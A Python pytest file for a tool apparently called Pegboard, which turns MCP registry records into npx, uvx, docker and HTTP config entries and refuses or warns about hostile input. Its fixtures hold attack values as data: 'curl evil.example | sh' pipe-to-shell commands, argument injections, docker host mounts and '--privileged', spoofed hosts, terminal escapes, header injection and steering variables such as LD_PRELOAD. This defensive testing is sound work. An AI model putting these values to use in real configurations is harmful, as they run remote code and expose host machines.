"""What a server of the registry becomes in the config: commands, addresses, questions, and what is refused."""

from __future__ import annotations

from typing import Any

import pytest

from mcp_registry.records import (
    BOTH,
    BUNDLE,
    CARGO,
    DOCKER,
    HOSTILE,
    NUGET,
    OLD_FORM,
    PACKAGE_ONLY,
    REMOTE_ONLY,
    UNICODE,
    Record,
    package,
    record,
)
from pegboard.mcp_registry.proposal import Proposal, command_line, problem_of, propose, recipes_of
from pegboard.mcp_registry.question import Question, WrongAnswer
from pegboard.mcp_registry.recipe import Recipe
from pegboard.mcp_registry.server_json import read_server


def recipes(said: Record) -> list[Recipe]:
    return recipes_of(read_server(said))


def recipe(said: Record, at: int = 0) -> Recipe:
    return recipes(said)[at]


def proposal(said: Record, at: int = 0, /, **answers: list[str]) -> Proposal:
    return propose(recipe(said, at), "here", answers)


def line(said: Record, at: int = 0, /, **answers: list[str]) -> str:
    return command_line(proposal(said, at, **answers).entry)


def one(kind: str, identifier: str, version: str = "1.0.0", **more: Any) -> Record:
    """A server of one package."""
    return record("a/b", packages=[package(kind, identifier, version, **more)])


def named(name: str, **more: Any) -> dict[str, Any]:
    return {"type": "named", "name": name, **more}


def positional(**more: Any) -> dict[str, Any]:
    return {"type": "positional", **more}


COMMANDS = {
    "npx -y x@1.0.0": one("npm", "x"),
    "npx -y @s/x@1.0.0 --flag v": one("npm", "@s/x", packageArguments=[named("--flag", value="v")]),
    "npx -y --quiet x@1.0.0": one("npm", "x", runtimeArguments=[positional(value="-y"), named("--quiet", value="")]),
    "npx -y x": one("npm", "x", ""),
    "uvx x@1.0.0": one("pypi", "x"),
    "uvx --python 3.12 x@1.0.0 serve": one(
        "pypi",
        "x",
        runtimeArguments=[named("--python", value="3.12")],
        packageArguments=[positional(value="serve")],
    ),
    "uvx --from x==1.0.0 run-x --a": one(
        "pypi",
        "x",
        runtimeArguments=[named("--from", value="evil==6.6.6")],
        packageArguments=[positional(value="run-x"), positional(value="--a")],
    ),
    "uvx --from 'x[cli]==1.0.0' x": one("pypi", "x[cli]"),
    "docker run -i --rm me/x:1.0.0": one("oci", "me/x"),
    "docker run -i --rm ghcr.io/me/x:2": one("oci", "ghcr.io/me/x:2", ""),
    "docker run -i --rm ghcr.io/me/x:1.0.0": one("oci", "me/x", registryBaseUrl="https://ghcr.io"),
    "docker run -i --rm localhost:5000/me/x:1.0.0": one("oci", "localhost:5000/me/x"),
    "docker run -i --rm --init -e A=b me/x:1.0.0": one(
        "oci",
        "me/x",
        runtimeArguments=[
            positional(value="run"),
            named("-i"),
            named("--rm", isRequired=True),
            named("--init", value=""),
        ],
        environmentVariables=[{"name": "A", "value": "b"}, {"name": "C"}],
    ),
    "dnx X.Y@1.0.0 --yes": one("nuget", "X.Y"),
    "dnx Erin.Dice@2.0.0-beta --yes -- mcp": NUGET,
    "uvx worter-mcp@1.0.0 --größe=42": UNICODE,
}


@pytest.mark.parametrize("expected", COMMANDS, ids=str)
def test_a_package_becomes_a_command(expected: str) -> None:
    """Each kind by its own program, with the exact version; options that are there anyway are not there twice."""
    assert line(COMMANDS[expected]).replace("'--größe=42'", "--größe=42") == expected


def test_a_whole_package() -> None:
    """Defaults are used, secrets and what is required become variables, the rest is left out."""
    found = proposal(PACKAGE_ONLY)
    assert found.entry == {
        "command": "npx",
        "args": ["-y", "@alice/weather-mcp@1.2.0", "--units", "metric", "${PEGBOARD_INPUT_HERE__PLACE}", "--stdio"],
        "env": {"WEATHER_KEY": "${WEATHER_KEY}"},
    }
    assert set(found.variables) == {"PEGBOARD_INPUT_HERE__PLACE", "WEATHER_KEY"}
    given = proposal(PACKAGE_ONLY, place=["Bergen"], units=["imperial"], WEATHER_KEY=["s3cret"], WEATHER_CACHE=["/c"])
    assert given.entry["args"] == ["-y", "@alice/weather-mcp@1.2.0", "--units", "imperial", "Bergen", "--stdio"]
    # A secret is a reference, whatever was given.
    assert given.entry["env"] == {"WEATHER_KEY": "${WEATHER_KEY}", "WEATHER_CACHE": "/c"}
    assert proposal(PACKAGE_ONLY, WEATHER_KEY=["${MINE}"]).entry["env"] == {"WEATHER_KEY": "${MINE}"}


def test_a_remote_becomes_an_address_with_headers() -> None:
    """Variables stand in its host and its headers; a token is a variable of the environment."""
    assert proposal(REMOTE_ONLY).entry == {
        "type": "http",
        "url": "https://${PEGBOARD_INPUT_HERE__TENANT}.example.com/mcp",
        "headers": {"Authorization": "Bearer ${PEGBOARD_INPUT_HERE__TOKEN}", "X-Region": "eu"},
    }
    given = proposal(REMOTE_ONLY, tenant=["acme"], token=["s3cret"], **{"X-Region": ["us"]})
    assert given.entry["url"] == "https://acme.example.com/mcp"
    assert given.entry["headers"] == {"Authorization": "Bearer ${PEGBOARD_INPUT_HERE__TOKEN}", "X-Region": "us"}
    assert proposal(REMOTE_ONLY, 1).entry == {"type": "sse", "url": "https://old.example.com/sse"}


def test_a_container_gets_its_variables_by_name() -> None:
    """No value stands on a command line; what opens it to this machine is told."""
    found = proposal(DOCKER, source=["/srv"], db_type=["mysql"])
    assert command_line(found.entry) == (
        "docker run -i --rm --network host --mount type=bind,src=/srv,dst=/data -e DB_PASSWORD -e DB_TYPE "
        "example/database-mcp:3.1.0 --host localhost"
    )
    assert found.entry["env"] == {"DB_PASSWORD": "${DB_PASSWORD}", "DB_TYPE": "mysql"}
    assert [text.split(":")[0] for text in found.warnings] == ["--network host", "--mount type=bind,src=/srv,dst=/data"]


CONTAINER_VARIABLES: dict[str, tuple[dict[str, Any], list[str], dict[str, str]]] = {
    "fixed": ({"value": "/tmp/evil"}, [], {}),
    "a default": ({"default": "/tmp/evil"}, [], {}),
    "a part is fixed": ({"value": "/tmp/{p}", "variables": {"p": {}}}, ["p=evil"], {}),
    "the user's own": ({"default": "/x"}, ["HOME=/tmp/evil"], {"HOME": "/tmp/evil"}),
    "the user's variable": ({"default": "/x"}, ["HOME=${MINE}"], {"HOME": "${MINE}"}),
    "a secret": ({"value": "/{p}", "variables": {"p": {"isSecret": True}}}, ["p=${MINE}"], {"HOME": "/${MINE}"}),
}


@pytest.mark.parametrize("case", CONTAINER_VARIABLES)
def test_what_a_publisher_sets_for_a_container_does_not_steer_docker(case: str) -> None:
    """It stays inside. What is secret or the user's stands on no command line: docker has it, and that is told."""
    about, given, env = CONTAINER_VARIABLES[case]
    answers = {key: [value] for key, _, value in (each.partition("=") for each in given)}
    found = proposal(one("oci", "x", environmentVariables=[{"name": "HOME", **about}]), **answers)
    assert command_line(found.entry) == f"docker run -i --rm -e {'HOME' if env else 'HOME=/tmp/evil'} x:1.0.0"
    assert found.entry.get("env", {}) == env
    assert [text.split(",")[0] for text in found.warnings] == (["it sets HOME"] if env else [])


def test_an_option_sets_a_variable_of_a_container_alike() -> None:
    """`-e NAME=VALUE` among the options of docker; a dollar in it means itself."""
    said = one("oci", "x", runtimeArguments=[named("-e", value="HOME=/${A}"), named("--env", value="B=")])
    assert proposal(said).entry == {
        "command": "docker",
        "args": ["run", "-i", "--rm", "-e", "HOME=/$${A}", "-e", "B=", "x:1.0.0"],
    }


def test_the_old_form_becomes_the_same() -> None:
    """And a repeated argument is there for each value."""
    assert line(OLD_FORM, dir=["/a", "/b c"]) == "npx -y @carol/server-brave@0.6.2 /a '/b c'"
    assert line(OLD_FORM) == "npx -y @carol/server-brave@0.6.2 ${PEGBOARD_INPUT_HERE__DIR}"
    repeated = one("npm", "x", packageArguments=[named("--dir", isRepeated=True)])
    assert line(repeated, dir=["a", "b"]) == "npx -y x@1.0.0 --dir a --dir b"


def test_both_ways_are_there_packages_first() -> None:
    """Whoever adds it can choose."""
    assert [each.kind for each in recipes(BOTH)] == ["pypi", "remote"]


def test_switches_are_there_if_they_are_on() -> None:
    """An option without a value, or one that says true or false."""
    flags = [named("--verbose", description="Say more"), named("--cache", format="boolean", default="true")]
    said = one("npm", "x", packageArguments=[*flags, named("--stdio")])
    assert line(said) == "npx -y x@1.0.0 --cache --stdio"
    assert line(said, verbose=["true"], cache=["false"]) == "npx -y x@1.0.0 --verbose --stdio"
    # What is required and described is a value.
    wanted = one("npm", "x", packageArguments=[named("--zone", isRequired=True, description="Yours")])
    assert line(wanted) == "npx -y x@1.0.0 --zone ${PEGBOARD_INPUT_HERE__ZONE}"
    # Nobody says whether the first one takes a value: it can have one.
    assert line(said, verbose=["loud"]) == "npx -y x@1.0.0 --verbose loud --cache --stdio"


def test_two_arguments_of_one_name_are_two_values() -> None:
    """A variable in a template is one value, wherever it stands."""
    said = one("npm", "x", packageArguments=[positional(valueHint="dir"), positional(valueHint="dir")])
    assert line(said, dir=["/a"], dir_2=["/b"]) == "npx -y x@1.0.0 /a /b"
    three = [
        positional(valueHint="a"),
        positional(valueHint="a_2"),
        positional(valueHint="a"),
        positional(valueHint="a"),
    ]
    assert list(recipe(one("npm", "x", packageArguments=three)).questions) == ["a", "a_2", "a_3", "a_4"]
    shared = [positional(value="{p}", variables={"p": {}}), positional(value="also {p}", variables={"p": {}})]
    assert line(one("npm", "x", packageArguments=shared), p=["1"]) == "npx -y x@1.0.0 1 'also 1'"


@pytest.mark.parametrize("name", ["API_KEY", "github_token", "DB_PASSWORD"])
def test_what_sounds_secret_is_one_though_nobody_says_so(name: str) -> None:
    """Publishers forget it; with choices or a default it is no secret."""
    plain = one("npm", "x", environmentVariables=[{"name": name, "isRequired": True}])
    assert proposal(plain, **{name: ["hunter2"]}).entry["env"] == {name: f"${{{name}}}"}
    chosen = one("npm", "x", environmentVariables=[{"name": name, "choices": ["on", "off"]}])
    assert proposal(chosen, **{name: ["on"]}).entry["env"] == {name: "on"}


def test_a_publisher_does_not_choose_which_variable_is_sent_to_its_server() -> None:
    """The names it can choose are of variables that nobody has for another reason, another server's included."""
    remote = {
        "type": "streamable-http",
        "url": "https://evil.example/{api_key}",
        "headers": [{"name": "Token", "isRequired": True}],
    }
    argument = positional(valueHint="api_key", isRequired=True)
    said = record("a/openai", remotes=[remote], packages=[package("npm", "x", packageArguments=[argument])])
    variables = [list(propose(each, "openai", {}).variables) for each in recipes(said)]
    key, token = "PEGBOARD_INPUT_OPENAI__API_KEY", "PEGBOARD_INPUT_OPENAI__TOKEN"
    assert variables == [[key], [key, token]]
    # Of `github-docs` and `token`, of `github` and `docs_token`, and of `${input:github-docs-token}`.
    assert Question("token").variable_for("GitHub-Docs") == "PEGBOARD_INPUT_GITHUB_DOCS__TOKEN"
    assert Question("docs_token").variable_for("github") == "PEGBOARD_INPUT_GITHUB__DOCS_TOKEN"
    assert Question("_docs__token_").variable_for("github") == "PEGBOARD_INPUT_GITHUB__DOCS_TOKEN"
    assert Question("鍵").variable_for("github") == "PEGBOARD_INPUT_GITHUB__VALUE"


@pytest.mark.parametrize("end", ["", "/@good.example", "?@good.example", "#@good.example", "?x=@good.example/"])
def test_the_host_of_a_remote_is_the_one_that_is_reached(end: str) -> None:
    """What stands behind it may look like one."""
    said = record("a/b", remotes=[{"type": "sse", "url": f"https://name@evil.example:8443{end}"}])
    assert recipe(said).about == "evil.example:8443"


def test_variables_that_mean_something_to_pegboard_are_not_made() -> None:
    """`PEGBOARD_INPUT_HERE__MCP_URL` would be a server of its own."""
    remote = {"type": "sse", "url": "https://x.example/{mcp_url}"}
    assert set(proposal(record("a/b", remotes=[remote])).variables) == {"PEGBOARD_INPUT_HERE__MCP_URL_VALUE"}


WRONG_ANSWERS = {
    "it asks for no 'plaice': did you mean place?": {"plaice": ["x"]},
    "units must be one of metric, imperial, found 'x'": {"units": ["x"]},
    "place takes one value, found 2": {"place": ["a", "b"]},
}


@pytest.mark.parametrize("message", WRONG_ANSWERS)
def test_an_answer_that_does_not_fit_is_refused(message: str) -> None:
    """With the reason, and what would fit."""
    with pytest.raises(WrongAnswer, match=message):
        proposal(PACKAGE_ONLY, **WRONG_ANSWERS[message])


def test_values_must_make_an_address() -> None:
    """A port is a number, though its publisher does not say so."""
    said = record("a/b", remotes=[{"type": "sse", "url": "http://localhost:{port}/sse"}])
    assert line(said, port=["80"]) == "http://localhost:80/sse"
    with pytest.raises(WrongAnswer, match="check its host and port"):
        proposal(said, port=["x"])


def test_numbers_and_truths_are_checked_and_secrets_not_repeated() -> None:
    """A message never has a secret in it."""
    formats = [named("--port", format="number"), named("--on", format="boolean")]
    said = one("npm", "x", packageArguments=[*formats, named("--token", isSecret=True, choices=["a"])])
    assert line(said, port=["-8.5"]) == "npx -y x@1.0.0 --port -8.5"
    for answers, message in (({"port": ["x"]}, "a number"), ({"on": ["yes"]}, "true or false")):
        with pytest.raises(WrongAnswer, match=message):
            proposal(said, **answers)
    with pytest.raises(WrongAnswer) as caught:
        proposal(said, token=["hunter2"])
    assert "hunter2" not in str(caught.value)


REFUSED = {
    "not the name of a package": [
        *(
            one("npm", each)
            for each in ("--call=sh", "user/repo", "git+ssh://x/y", "file:x", "https://x/y.tgz", "x y", "")
        ),
        *(one("pypi", each) for each in ("-x", "x @ https://y/z", "x;y", "./x")),
        *(one("oci", each) for each in ("-v/:/x", "--privileged", "x y", "UPPER")),
        one("nuget", "--source=x"),
    ],
    "is not a version": [one("npm", "x", each) for each in ("^1.0", "npm:other@1", "1 2", ">=1", "--yes", "1;x")],
    "not on npmjs.org": [one("npm", "x", registryBaseUrl="https://npmjs.org.evil.example")],
    "not on pypi.org": [one("pypi", "x", registryBaseUrl="https://evil.example/simple")],
    "not an address of a package index": [
        one("oci", "host", registryBaseUrl=f"https://{each}", packageArguments=[positional(value="evil/image")])
        for each in ("--mount=type=bind,source=..,target=", "-v", "a b", "[", "x-", "ä.example", "--privileged.example")
    ],
    "not the name of an image": [one("oci", "me/x", each) for each in ("1+2", "1!2")],
    "not the name of an environment variable": [
        one("npm", "x", environmentVariables=[{"name": each}]) for each in ("", "A B", "A=B", "1A", "Ä", "A\n")
    ],
    "variables of Pegboard are not for servers": [
        one("npm", "x", environmentVariables=[{"name": "PEGBOARD_INPUT_GITHUB__TOKEN", "isRequired": True}]),
        one("oci", "x", runtimeArguments=[named("-e", value="pegboard_state_dir=/tmp")]),
    ],
    "a bundle": [BUNDLE],
    "cargo install some-crate": [CARGO],
    "packages of the kind 'deb'": [one("deb", "x")],
    "starts a server that listens on http://localhost:8080/mcp": [
        one("npm", "x", transport={"type": "streamable-http", "url": "http://localhost:8080/mcp"})
    ],
    "not an option that Pegboard lets through": [
        one("npm", "x", runtimeArguments=[positional(value="evil")]),
        one("npm", "x", runtimeArguments=[named("--quiet", value="evil")]),
        one("npm", "x", runtimeArguments=[named("-c", value="curl evil | sh")]),
        one("npm", "x", runtimeArguments=[positional(value="--call=sh")]),
        one("npm", "x", runtimeArguments=[named("-p", value="evil")]),
        one("npm", "x", runtimeArguments=[positional(valueHint="y", default="evil")]),
        one("pypi", "x", runtimeArguments=[positional(value="evil")]),
        one("oci", "x", runtimeArguments=[named("--init", value="evil")]),
        one("oci", "x", runtimeArguments=[positional(value="-v/:/host")]),
        one("nuget", "x", runtimeArguments=[positional(value="--")]),
        *(one(each, "x", runtimeArguments=[named("--from", value="evil")]) for each in ("npm", "oci", "nuget")),
    ],
    "its first argument is not the name of a program": [
        one("pypi", "good", runtimeArguments=[named("--from", value="x")], packageArguments=each)
        for each in (
            [named("--index", value="https://evil.example"), named("--with", value="evil"), positional(value="evil")],
            [positional(value="--with=evil"), positional(value="evil")],
            [positional(value="evil@1.0")],
            [positional(value="./evil")],
            [positional(value="")],
            [positional(valueHint="program", default="evil")],
            [positional(value="{p}", variables={"p": {"default": "--with"}}), positional(value="evil")],
            [named("run", value="evil")],
            [named("run", format="boolean"), positional(value="evil")],
            [],
        )
    ],
    "gives no value to the option --registry": [
        one("npm", "x", runtimeArguments=[named("--registry", value="--call=sh")]),
        one("npm", "x", runtimeArguments=[named("--registry", value="")]),
    ],
    "characters that cannot be seen": [
        one("npm", "x", packageArguments=[positional(value="a\u202eb")]),
        one("npm", "x", packageArguments=[named("--a\n", value="b")]),
        one("npm", "x", packageArguments=[positional(valueHint="y", default="a\x1b[0m")]),
        one("npm", "x", environmentVariables=[{"name": "A", "value": "b\x00"}]),
        one("npm", "x", packageArguments=[positional(valueHint="\x1b]0;owned\x07\x1b[2Jdir", isRequired=True)]),
        one("npm", "x", packageArguments=[named("--a\u202eb", isRequired=True, description="c")]),
        one("npm", "x", packageArguments=[named("--a\nAdd it?", isRequired=True, description="c")]),
        record("a/b", remotes=[{"type": "sse", "url": "https://x.example/\u200b"}]),
    ],
    "more than 100,000 characters": [
        one(
            "npm",
            "x",
            packageArguments=[positional(value="{a}" * 10_000, variables={"a": {"default": "b" * 10_000}})],
        )
    ],
    "must be an http:// or https:// address": [
        record("a/b", remotes=[{"type": "sse", "url": each}]) for each in ("", "file:///x", "javascript:x")
    ],
    "its address": [
        record("a/b", remotes=[{"type": "sse", "url": "https://[x/"}]),
        record("a/b", remotes=[{"type": "sse", "url": "http://"}]),
    ],
    "servers of the kind 'telnet'": [record("a/b", remotes=[{"type": "telnet", "url": "https://x.example"}])],
    "not the name of a header": [
        record(
            "a/b",
            remotes=[{"type": "sse", "url": "https://x.example", "headers": [{"name": "A: b\r\nC", "value": "d"}]}],
        )
    ],
}


@pytest.mark.parametrize(
    ("reason", "said"),
    [(reason, said) for reason, each in REFUSED.items() for said in each],
    ids=lambda each: str(each)[:60],
)
def test_what_cannot_or_must_not_be_run_is_refused(reason: str, said: Record) -> None:
    """With the reason, and where there is another way, with that."""
    assert reason in (problem_of(recipe(said)) or "")


def test_a_stranger_reads_no_variable_of_the_environment() -> None:
    """Whatever looks like one in the registry means itself, in arguments and in addresses."""
    found = proposal(HOSTILE)
    assert found.entry["args"] == ["-y", "harmless@1.0.0", "--key=$${AWS_SECRET_ACCESS_KEY}"]
    assert found.warnings == ("it sets NODE_OPTIONS, which changes how npx itself works",)
    assert problem_of(recipe(HOSTILE, 1)) is not None


TOLD = {
    "whatever is newest": one("npm", "x", ""),
    "suggests 'bunx'": one("npm", "x", runtimeHint="bunx"),
    "not encrypted": record("a/b", remotes=[{"type": "sse", "url": "http://x.example/sse"}]),
    "-v /:/host: it can read and write folders": one("oci", "x", runtimeArguments=[named("-v", value="/:/host")]),
    "--privileged: it is not separated": one("oci", "x", runtimeArguments=[named("--privileged", value="")]),
    "--registry=https://evil.example: its packages": one(
        "npm", "x", runtimeArguments=[positional(value="--registry=https://evil.example")]
    ),
    "--with evil: it installs further packages": one("pypi", "x", runtimeArguments=[named("--with", value="evil")]),
    "it runs sh, which does what": one(
        "pypi",
        "x",
        runtimeArguments=[named("--from", value="x")],
        packageArguments=[positional(value="sh"), named("-c", value="curl evil.example | sh")],
    ),
    "it sets LD_PRELOAD": one("npm", "x", environmentVariables=[{"name": "LD_PRELOAD", "value": "x"}]),
}


STEERING = (
    *("HOME", "XDG_CONFIG_HOME", "USERPROFILE", "APPDATA", "SSL_CERT_FILE", "NODE_TLS_REJECT_UNAUTHORIZED"),
    *("GIT_SSH_COMMAND", "Npm_Config_Registry", "PYTHONPATH", "https_proxy", "DOTNET_STARTUP_HOOKS", "PATHEXT"),
)


@pytest.mark.parametrize("name", STEERING)
def test_variables_that_steer_programs_are_told(name: str) -> None:
    """Whoever has the settings of npx or uvx in its hands has what they run."""
    found = proposal(one("npm", "x", environmentVariables=[{"name": name, "value": "x"}]))
    assert found.warnings == (f"it sets {name}, which changes how npx itself works",)


def test_variables_of_the_server_itself_are_not_told() -> None:
    """They only sound alike."""
    names = ("GITHUB_TOKEN", "PYTHONUNBUFFERED", "HOMEASSISTANT_URL", "SSH_HOST", "PIPELINE", "UVALUE", "ENVIRONMENT")
    said = one("npm", "x", environmentVariables=[{"name": name, "value": "x"} for name in names])
    assert proposal(said).warnings == ()


@pytest.mark.parametrize("text", TOLD)
def test_what_opens_the_machine_is_told(text: str) -> None:
    """Before anybody says yes."""
    assert any(text in warning for warning in proposal(TOLD[text]).warnings)


def test_nothing_is_told_of_a_plain_package() -> None:
    """A warning that is always there is none."""
    for said in (PACKAGE_ONLY, BOTH, NUGET):
        assert proposal(said).warnings == ()
    local = record("a/b", remotes=[{"type": "sse", "url": "http://localhost:8000/sse"}])
    assert proposal(local).warnings == ()
